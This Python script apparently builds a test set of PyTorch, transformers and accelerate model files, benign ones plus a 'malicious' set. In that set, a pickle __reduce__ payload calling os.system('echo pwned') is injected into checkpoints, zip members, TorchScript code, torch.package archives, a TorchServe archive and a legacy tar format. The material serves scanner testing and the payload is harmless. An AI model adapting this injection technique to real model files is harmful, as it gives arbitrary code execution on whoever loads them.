"""Writes what PyTorch 2.15 (BSD-3), transformers 5.24 and accelerate 1.15 (both Apache-2.0) and safetensors 0.8 (Apache-2.0) save.

    pip install torch transformers accelerate safetensors && python torch.py FOLDER

Below FOLDER/torch/benign lie files as the libraries write them, below FOLDER/torch/malicious the same with a payload that echoes a
word. The models are tiny and untrained; what the files hold is nobody's.
"""
import argparse
import collections
import io
import json
import os
import pickle
import sys
import tarfile
import zipfile

sys.path.pop(0)  # this file's own name is the library's

import torch
from torch import nn

benign, malicious = (os.path.join(sys.argv[1], "torch", kind) for kind in ("benign", "malicious"))
for folder in (benign, malicious):
    os.makedirs(folder, exist_ok=True)
torch.manual_seed(1)


def at(name):
    return os.path.join(benign, name)


class Block(nn.Module):
    def __init__(self):
        super().__init__()
        self.linear = nn.Linear(3, 3)
        self.register_buffer("scale", torch.full((3,), 0.5))

    def forward(self, x):
        return torch.relu(self.linear(x)) * self.scale


class Net(nn.Module):
    names: list[str]
    limit: torch.jit.Final[int]

    def __init__(self):
        super().__init__()
        self.blocks = nn.ModuleList([Block(), Block()])
        self.head = nn.Sequential(nn.Linear(3, 2), nn.Softmax(dim=-1))
        self.names = ["a", "b"]
        self.limit = 3
        self.table = {"one": 1}
        self.grid = torch.arange(4.0)

    def forward(self, x, again: bool = False):
        for block in self.blocks:
            x = block(x)
        if again:
            x = x + self.grid[:3] + torch.tensor([1.0, 2.0, 3.0])
        return self.head(x)


def nested():
    return nn.Sequential(
        nn.Conv2d(1, 2, 3, padding=1), nn.BatchNorm2d(2), nn.ReLU(), nn.MaxPool2d(2), nn.Flatten(), nn.Dropout(0.1), nn.LayerNorm(8), nn.GELU(),
        nn.utils.weight_norm(nn.Linear(8, 4)), nn.ModuleDict({"a": nn.Embedding(3, 4)}), nn.LSTM(4, 4), nn.GRU(4, 4), nn.MultiheadAttention(4, 2), nn.TransformerEncoderLayer(4, 2, 4), nn.ParameterList([torch.zeros(2)]),
    )


def trained(optimizer, **more):
    model = nn.Linear(3, 2)
    o = optimizer(model.parameters(), lr=0.1, **more)
    s = torch.optim.lr_scheduler.CosineAnnealingLR(o, 5)
    for _ in range(2):
        model(torch.ones(1, 3)).sum().backward()
        o.step()
        s.step()
    return model, o, s


def both(name, thing):
    """The zip file, the one from before 1.6, and older protocols."""
    torch.save(thing, at(name + ".pt"))
    torch.save(thing, at(name + ".legacy.pt"), _use_new_zipfile_serialization=False)
    if name in ("types", "attributes", "checkpoint"):
        torch.save(thing, at(name + ".p4.pt"), pickle_protocol=4)


def tensors():
    base = torch.arange(12.0)
    quantized = torch.quantize_per_tensor(torch.ones(2, 2), 0.1, 3, torch.qint8)
    yield "shared", {"all": base, "part": base[2:6], "matrix": base.view(3, 4).t()}
    yield "types", {str(t): torch.ones(3).to(t) for t in (torch.float64, torch.float16, torch.bfloat16, torch.int64, torch.int32, torch.int16, torch.int8, torch.uint8, torch.bool, torch.complex64, torch.complex128, torch.float8_e4m3fn, torch.float8_e5m2, torch.uint16, torch.uint32, torch.uint64)}
    yield "sparse", {"coo": torch.eye(3).to_sparse(), "csr": torch.eye(3).to_sparse_csr(), "csc": torch.eye(3).to_sparse_csc(), "bsr": torch.eye(4).to_sparse_bsr((2, 2))}
    yield "quantized", {"one": quantized, "channels": torch.quantize_per_channel(torch.ones(2, 2), torch.tensor([0.1, 0.2]), torch.tensor([0, 1]), 0, torch.qint8), "32": torch.quantize_per_tensor(torch.ones(2), 0.1, 0, torch.qint32), "u8": torch.quantize_per_tensor(torch.ones(2), 0.1, 0, torch.quint8)}
    yield "empty", {"none": torch.empty(0), "scalar": torch.tensor(1.5), "size": torch.Size([1, 2]), "dtype": torch.bfloat16, "device": torch.device("cpu"), "generator": torch.get_rng_state()}
    yield "meta", torch.empty(2, 3, device="meta")
    parameter = nn.Parameter(torch.ones(2))
    parameter.note = "kept"
    tensor = torch.ones(2)
    tensor.note = "kept"
    yield "attributes", {"parameter": parameter, "buffer": nn.Buffer(torch.ones(1)), "tensor": tensor, "grad": torch.ones(2, requires_grad=True), "storage": torch.ones(2).untyped_storage(), "typed": torch.ones(2).storage(), "conj": torch.ones(2, dtype=torch.complex64).conj(), "neg": torch.ones(2, dtype=torch.complex64).conj().imag}
    yield "nestedtensor", torch.nested.nested_tensor([torch.ones(2), torch.ones(3)])
    yield "jagged", torch.nested.nested_tensor([torch.ones(2, 1), torch.ones(3, 1)], layout=torch.jagged)


def checkpoints():
    for cls, more in ((torch.optim.SGD, {"momentum": 0.9}), (torch.optim.Adam, {}), (torch.optim.AdamW, {"amsgrad": True}), (torch.optim.RMSprop, {}), (torch.optim.Adagrad, {}), (torch.optim.LBFGS, {})):
        if cls is torch.optim.LBFGS:
            yield "optimizer.LBFGS", cls(nn.Linear(2, 2).parameters()).state_dict()
            continue
        model, o, s = trained(cls, **more)
        yield "optimizer." + cls.__name__, o.state_dict()
    model, o, s = trained(torch.optim.Adam)
    yield "checkpoint", {"epoch": 3, "model": model.state_dict(), "optimizer": o.state_dict(), "scheduler": s.state_dict(), "rng": torch.get_rng_state(), "loss": 0.25, "args": {"lr": 0.1}}
    yield "optimizer.object", o
    yield "scheduler.object", s
    yield "lightning", {
        "epoch": 1, "global_step": 10, "pytorch-lightning_version": "2.6.6", "state_dict": model.state_dict(), "loops": {"fit_loop": {"state_dict": {}, "epoch_progress": {"total": {"ready": 1, "completed": 1}}}},
        "callbacks": {"ModelCheckpoint{'monitor': None}": {"best_model_path": "a.ckpt", "best_model_score": torch.tensor(0.5)}}, "optimizer_states": [o.state_dict()], "lr_schedulers": [s.state_dict()],
        "hparams_name": "kwargs", "hyper_parameters": {"lr": 0.1, "layers": [1, 2]}, "MixedPrecision": {"scale": 65536.0, "growth_factor": 2.0},
    }
    yield "namespace", {"args": argparse.Namespace(lr=0.1), "state": collections.defaultdict(int, a=1), "counter": collections.Counter("ab")}
    yield "peft", {"base_model.model.layers.0.q_proj.lora_A.weight": torch.zeros(2, 4), "base_model.model.layers.0.q_proj.lora_B.weight": torch.zeros(4, 2)}


def modules():
    torch.save(nested(), at("module.nested.pt"))
    torch.save(nn.Sequential(nn.Linear(2, 2), nn.ReLU()), at("module.legacy.pt"), _use_new_zipfile_serialization=False)
    spectral = nn.utils.spectral_norm(nn.Linear(2, 2))
    torch.save(spectral, at("module.spectral.pt"))
    torch.save(torch.distributions.Normal(torch.zeros(2), torch.ones(2)), at("distribution.pt"))
    torch.save(torch.utils.data.TensorDataset(torch.ones(2)), at("dataset.pt"))
    torch.save(nn.CrossEntropyLoss(weight=torch.ones(2)), at("loss.pt"))
    torch.save(nn.DataParallel(nn.Linear(2, 2)), at("parallel.pt"))
    with open(at("module.pickled.pkl"), "wb") as f:
        pickle.dump(nested(), f)
    with open(at("module.pickled.p2.pkl"), "wb") as f:
        pickle.dump(nn.Linear(2, 2), f, 2)
    model = nn.Linear(3, 2)
    big = io.BytesIO()
    torch.save(model.state_dict(), big)
    with zipfile.ZipFile(big) as old, zipfile.ZipFile(at("bigendian.pt"), "w", zipfile.ZIP_STORED) as new:
        for info in old.infolist():
            data = old.read(info)
            if info.filename.endswith("/byteorder"):
                data = b"big"
            elif "/data/" in info.filename:
                data = b"".join(data[i:i + 4][::-1] for i in range(0, len(data), 4))
            new.writestr(info.filename, data)


def scripts():
    scripted = torch.jit.script(Net())
    torch.jit.save(scripted, at("script.pt"), _extra_files={"notes.json": "{}"})
    torch.jit.save(torch.jit.trace(Block(), torch.ones(1, 3)), at("trace.pt"))
    torch.jit.save(torch.jit.freeze(scripted.eval()), at("frozen.pt"))
    scripted._save_for_lite_interpreter(at("lite.ptl"))

    @torch.jit.script
    def function(x, n: int):
        y = x
        for i in range(n):
            y = y * torch.tensor([1.0, 2.0]) + i
        return y

    function.save(at("function.pt"))


def exports():
    program = torch.export.export(Block(), (torch.ones(2, 3),))
    torch.export.save(program, at("program.pt2"))


def packages():
    from torch.package import PackageExporter
    with PackageExporter(at("package.pt")) as e:
        e.save_text("texts", "notes.txt", "hello")
        e.save_pickle("model", "model.pkl", {"weights": nn.Linear(2, 2).state_dict(), "sizes": [1, 2]})
        e.save_pickle("model", "other.pkl", {"rows": torch.ones(3)})


def transformer():
    from accelerate import Accelerator
    from transformers import BertConfig, BertModel, GPT2Config, GPT2LMHeadModel, TrainingArguments
    bert = BertModel(BertConfig(vocab_size=16, hidden_size=4, num_hidden_layers=1, num_attention_heads=2, intermediate_size=4, max_position_embeddings=8))
    bert.save_pretrained(at("bert"))
    torch.save(bert.state_dict(), at("bert/pytorch_model.bin"))
    torch.save(bert, at("bert.module.pt"))
    gpt = GPT2LMHeadModel(GPT2Config(vocab_size=16, n_positions=8, n_embd=4, n_layer=1, n_head=2))
    gpt.save_pretrained(at("gpt2"))
    torch.save(gpt, at("gpt2.module.pt"))
    torch.save(TrainingArguments(output_dir="out", use_cpu=True), at("training_args.bin"))
    model, o, s = trained(torch.optim.AdamW)
    a = Accelerator(cpu=True)
    model, o, s = a.prepare(model, o, s)
    a.save_state(at("accelerate"))


class Evil:
    def __reduce__(self):
        return os.system, ("echo pwned",)


def changed(name, of, **members):
    """A copy of a zip file in which members by the ends of their names are others, and of which more are added below its folder."""
    with zipfile.ZipFile(at(of)) as old, zipfile.ZipFile(os.path.join(malicious, name), "w", zipfile.ZIP_STORED) as new:
        top = old.namelist()[0].split("/")[0]
        for info in old.infolist():
            new.writestr(info.filename, members.pop(info.filename.partition("/")[2], old.read(info)))
        for path, data in members.items():
            new.writestr(path.lstrip("^") if path.startswith("^") else top + "/" + path, data)


def evil():
    payload, source = pickle.dumps(Evil(), 2), "import os\nos.system('echo pwned')\n"
    thing = {"weight": torch.ones(2), "more": Evil()}
    torch.save(thing, os.path.join(malicious, "zip.pt"))
    torch.save(thing, os.path.join(malicious, "legacy.pt"), _use_new_zipfile_serialization=False)
    changed("constants.pt", "trace.pt", **{"constants.pkl": payload})
    changed("scriptdata.pt", "trace.pt", **{"data.pkl": payload})
    changed("code.pt", "trace.pt", **{"code/__torch__/more.py": source})
    changed("extra.pt", "trace.pt", **{"extra/notes.json": payload})
    changed("upper.pt", "state.pt", **{"DATA.PKL": payload})
    changed("double.pt", "state.pt", **{"./data.pkl": payload})
    changed("second.pt", "state.pt", **{"^other/data.pkl": payload})
    changed("storage.pt", "state.pt", **{"data/none": payload})
    changed("package.pt", "package.pt", **{"model/model.pkl": payload})
    changed("packagecode.pt", "package.pt", **{"nets.py": source})
    changed("exported.pt2", "program.pt2", **{"data/sample_inputs/model.pt": open(os.path.join(malicious, "zip.pt"), "rb").read()})
    with zipfile.ZipFile(os.path.join(malicious, "twice.pt"), "w") as z:
        with zipfile.ZipFile(at("state.pt")) as old:
            for info in old.infolist():
                z.writestr(info.filename, old.read(info))
            z.writestr(old.namelist()[0].split("/")[0] + "/data.pkl", payload)
    with zipfile.ZipFile(os.path.join(malicious, "served.mar"), "w") as z:
        z.writestr("MAR-INF/MANIFEST.json", json.dumps({"model": {"modelName": "m", "serializedFile": "m.pt", "handler": "handler.py"}}))
        z.write(os.path.join(malicious, "zip.pt"), "m.pt")
        z.writestr("handler.py", source)
    with tarfile.open(os.path.join(malicious, "tar.pt"), "w") as t:  # torch 0.1.1
        for name, data in (("sys_info", pickle.dumps({"little_endian": True}, 2)), ("pickle", payload), ("tensors", b"\0" * 8), ("storages", b"\0" * 8)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))


def pieces():
    for name, thing in [*tensors(), *checkpoints()]:
        try:
            both(name, thing)
        except Exception as e:
            print("skipped", name, repr(e)[:200])
    both("state", Net().state_dict())


for source in (pieces, modules, scripts, exports, packages, transformer, evil):
    try:
        source()
    except Exception as e:
        print("failed", source.__name__, repr(e)[:300])
